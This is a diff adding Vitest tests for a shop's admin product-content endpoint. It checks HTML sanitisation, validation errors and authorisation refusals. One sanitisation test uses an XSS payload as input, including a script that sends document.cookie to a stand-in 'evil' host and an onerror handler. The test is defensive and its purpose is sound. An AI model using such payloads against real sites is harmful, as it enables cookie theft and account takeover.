@@ -1,24 +1,31 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTokenService } from '@labshop/shared/auth/tokens';
 import { createTestStores } from '@labshop/shared/testing/stores';
-import { CATALOGUE_STREAM } from '@labshop/shared/events/catalogue';
+import { CATALOGUE_STREAM, productStream } from '@labshop/shared/events/catalogue';
 import type { RecordedEvent } from '@labshop/shared/event-store/port';
 import { buildCommandApp } from '../app.ts';
 import { adminAuthorization } from '../testing/admin-session.ts';
+import { incomingDirOf } from './files/content-store.ts';
 
 const tokens = createTokenService('test-secret-that-is-long-enough-for-hs256');
 let stores: Awaited<ReturnType<typeof createTestStores>>;
 let app: Awaited<ReturnType<typeof buildCommandApp>>;
 let admin: { authorization: string };
+let contentDir: string;
 
 beforeAll(async () => {
   stores = await createTestStores();
-  app = await buildCommandApp({ eventStore: stores.eventStore, tokens });
+  contentDir = await mkdtemp(join(tmpdir(), 'labshop-content-'));
+  app = await buildCommandApp({ eventStore: stores.eventStore, tokens, contentDir });
   admin = await adminAuthorization(stores.eventStore, tokens);
 });
 afterAll(async () => {
   await app?.close();
   await stores?.drop();
+  if (contentDir) await Promise.all([contentDir, incomingDirOf(contentDir)].map((dir) => rm(dir, { recursive: true, force: true })));
 });
 
 async function catalogueEvents(): Promise<RecordedEvent[]> {
@@ -102,5 +109,49 @@ describe('catalogue product commands', () => {
     expect(await catalogueEvents()).toHaveLength(before + created);
     const orders = (await catalogueEvents()).flatMap((e) => (e.type === 'ProductCreated' ? [(e.data as { displayOrder: number }).displayOrder] : []));
     expect(new Set(orders).size).toBe(orders.length);
+  });
+});
+
+describe('product content', () => {
+  const contentOf = (productId: string) => `/api/admin/catalogue/products/${productId}/content`;
+  const changeContent = (productId: string, payload: unknown, headers: Record<string, string> = admin) =>
+    app.inject({ method: 'PATCH', url: contentOf(productId), headers, payload: payload as object });
+  const productEvents = async (productId: string) => {
+    const events: RecordedEvent[] = [];
+    for await (const event of stores.eventStore.readStream(productStream(productId))) events.push(event);
+    return events;
+  };
+
+  it("stores the editor's HTML sanitised in the product's stream, and nothing when it does not change", async () => {
+    const productId = (await addProduct({ name: 'Exosome Products' })).json().productId as string;
+    const dirty = '<h2>Exosomes</h2><p onclick="steal()">Isolation <b>kits</b></p><script>fetch("//evil?c="+document.cookie)</script><img src="x" onerror="alert(1)">';
+    const response = await changeContent(productId, { content: dirty });
+    expect(response.statusCode).toBe(200);
+    const [event] = await productEvents(productId);
+    expect(event).toMatchObject({ type: 'ProductContentChanged', position: response.json().position, data: { productId, content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' } });
+    expect(event?.metadata.actor).toMatchObject({ kind: 'admin', email: 'admin@labshop.test' });
+
+    const same = await changeContent(productId, { content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' });
+    expect(same.json().position).toBe(event?.position);
+    expect(await productEvents(productId)).toHaveLength(1);
+  });
+
+  it('refuses bad content with 400, an unknown product with 404, and strangers with 401/403, writing nothing', async () => {
+    const productId = (await addProduct({ name: 'Western Blot' })).json().productId as string;
+    const cases: [unknown, number, Record<string, string> | undefined][] = [
+      [{ content: 42 }, 400, { content: 'Content must be text' }],
+      [{ content: 'x'.repeat(100_001) }, 400, { content: 'Content must be at most 100000 characters' }],
+      [{}, 400, { content: 'Content must be text' }],
+    ];
+    for (const [payload, status, fields] of cases) {
+      const response = await changeContent(productId, payload);
+      expect(response.statusCode).toBe(status);
+      expect(response.json().fields).toEqual(fields);
+    }
+    expect((await changeContent('00000000-0000-4000-8000-000000000000', { content: 'x' })).json()).toMatchObject({ error: 'NotFound', message: 'Product not found' });
+    expect((await changeContent(productId, { content: 'x' }, {})).statusCode).toBe(401);
+    const customer = await tokens.sign({ role: 'customer', sub: 'c1', email: 'shopper@example.com' }, '1h');
+    expect((await changeContent(productId, { content: 'x' }, { authorization: `Bearer ${customer}` })).statusCode).toBe(403);
+    expect(await productEvents(productId)).toHaveLength(0);
   });
 });
